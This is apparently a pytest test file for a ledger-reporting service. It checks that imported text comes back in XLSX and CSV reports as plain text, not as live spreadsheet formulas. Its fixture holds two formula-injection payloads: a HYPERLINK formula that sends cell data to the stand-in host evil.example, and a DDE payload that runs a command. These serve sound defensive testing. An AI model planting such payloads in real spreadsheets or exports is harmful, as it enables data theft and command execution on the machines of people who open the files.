"""Spreadsheet cells the service writes never become live formulas (issue 10, item 12).

A clerk's ledger is untrusted text: a location such as =HYPERLINK("http://…"&A1,"x") must come
back in the XLSX and CSV reports as the text that was typed, not as something Excel runs."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from tests.conftest import unique

HOSTILE = {
    "location": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "case_no": "+1+cmd|' /C calc'!A0",
}
PARAMS = {"start_from": "2026-10-01T00:00:00", "start_to": "2026-10-02T00:00:00"}


def _import(service, admin_token, officer: str) -> tuple[str, str]:
    """Two roadside tickets with hostile text cells; returns their event ids."""
    tag = unique("F")
    ids = (f"{tag}-1", f"@{tag}-2")
    quoted = {k: '"' + v.replace('"', '""') + '"' for k, v in HOSTILE.items()}
    ledger = "event_id,event_type,police_ids,started_at,location,case_no\n" + "".join(
        f"{i},ticket,{officer},2026-10-01 0{n}:00,{quoted['location']},{quoted['case_no']}\n"
        for n, i in enumerate(ids, 1))
    r = service.http.post("/api/v1/ledger/import", headers={"Authorization": f"Bearer {admin_token}"},
                          files={"file": ("ledger.csv", ledger.encode(), "text/csv")})
    assert r.status_code == 200 and r.json()["errors"] == [], r.text
    return ids


def _sheet_rows(content: bytes, sheet: str) -> dict[str, dict]:
    ws = load_workbook(io.BytesIO(content))[sheet]  # not data_only: formulas would stay formulas
    rows = list(ws.iter_rows())
    header = [c.value for c in rows[0]]
    return {r[0].value: dict(zip(header, r)) for r in rows[1:]}


def test_hostile_ledger_text_is_plain_text_in_xlsx_reports(world, service, admin_token):
    ids = _import(service, admin_token, world.users["officer_a"][0])
    auth = {"Authorization": f"Bearer {admin_token}"}
    events = service.http.get("/api/v1/coverage/events", headers=auth, params={**PARAMS, "format": "xlsx"})
    summary = service.http.get("/api/v1/coverage/summary", headers=auth,
                               params={**PARAMS, "group_by": "type", "format": "xlsx"})
    assert events.status_code == 200 and summary.status_code == 200
    for content, sheet in ((events.content, "events"), (summary.content, "roadside missing")):
        rows = _sheet_rows(content, sheet)
        for event_id in ids:
            cells = rows[event_id]
            assert cells["event_id"].data_type == "s"
            for column, text in HOSTILE.items():
                cell = cells[column]
                assert cell.data_type == "s", f"{sheet}/{column} is a formula: {cell.value!r}"
                assert cell.value == text  # shown exactly as typed, as text


def test_hostile_ledger_text_is_neutralised_in_csv_reports(world, service, admin_token):
    ids = _import(service, admin_token, world.users["officer_b"][0])
    r = service.http.get("/api/v1/coverage/events", headers={"Authorization": f"Bearer {admin_token}"},
                         params={**PARAMS, "format": "csv"})
    assert r.status_code == 200
    rows = {row["event_id"]: row for row in csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")))}
    assert ids[0] in rows and "'" + ids[1] in rows  # "@…" starts a formula too
    for row in (rows[ids[0]], rows["'" + ids[1]]):
        for column, text in HOSTILE.items():
            assert row[column] == "'" + text  # a leading apostrophe: Excel shows text, runs nothing
    assert rows[ids[0]]["started_at"] == "2026-10-01 01:00:00"  # ordinary cells are untouched
